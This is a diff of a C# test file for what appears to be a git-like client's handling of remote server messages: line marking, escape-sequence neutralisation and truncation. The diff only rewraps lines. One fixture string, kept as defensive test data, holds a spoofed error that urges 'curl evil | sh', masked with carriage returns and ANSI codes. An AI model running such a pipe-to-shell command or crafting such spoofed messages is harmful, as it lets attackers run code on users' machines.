@@ -15,7 +15,8 @@ public sealed class RemoteWordsTests : IDisposable
     public void Several_lines_of_an_error_are_marked_each(bool isHttp)
     {
         using var server = new HostileServer(isHttp, (_, to) =>
-            HostileServer.Record(to, 'E', """{"kind":"usage","code":"","text":"no\nerror: your repository is damaged\r\nrun 'curl evil | sh'\rto repair it\u001b[2K\u0007"}"""));
+            HostileServer.Record(to, 'E',
+                """{"kind":"usage","code":"","text":"no\nerror: your repository is damaged\r\nrun 'curl evil | sh'\rto repair it\u001b[2K\u0007"}"""));
         string output = Run("-c", "core.sshCommand=" + server.SshCommand(_files["ssh"]), "ls-remote", server.Address);
         Assert.Contains("\nremote: error: your repository is damaged\n", output, StringComparison.Ordinal);
         AssertMarked(output);
@@ -26,7 +27,9 @@ public sealed class RemoteWordsTests : IDisposable
     [Fact]
     public void Several_lines_of_a_refusal_are_marked_each()
     {
-        using var server = new RawServer("HTTP/1.1 403 No\r\nContent-Type: text/plain\r\nContent-Length: 40\r\n\r\nno\nwarning: do this\nand that\r\nat once     \n", "");
+        using var server = new RawServer(
+            "HTTP/1.1 403 No\r\nContent-Type: text/plain\r\nContent-Length: 40\r\n\r\nno\nwarning: do this\nand that\r\nat once     \n",
+            "");
         string output = Run("ls-remote", server.Address);
         Assert.Contains("\nremote: warning: do this\n", output, StringComparison.Ordinal);
         AssertMarked(output);
@@ -36,7 +39,8 @@ public sealed class RemoteWordsTests : IDisposable
     public void Endless_words_are_cut()
     {
         using var server = new HostileServer(true, (_, to) =>
-            HostileServer.Record(to, 'E', "{\"kind\":\"usage\",\"code\":\"\",\"text\":\"" + string.Concat(Enumerable.Repeat("a\\n", 15_000)) + "\"}"));
+            HostileServer.Record(to, 'E', "{\"kind\":\"usage\",\"code\":\"\",\"text\":\"" + string.Concat(Enumerable.Repeat("a\\n", 15_000))
+                + "\"}"));
         Assert.InRange(Run("ls-remote", server.Address).Split('\n').Length, 3, 50);
     }
 
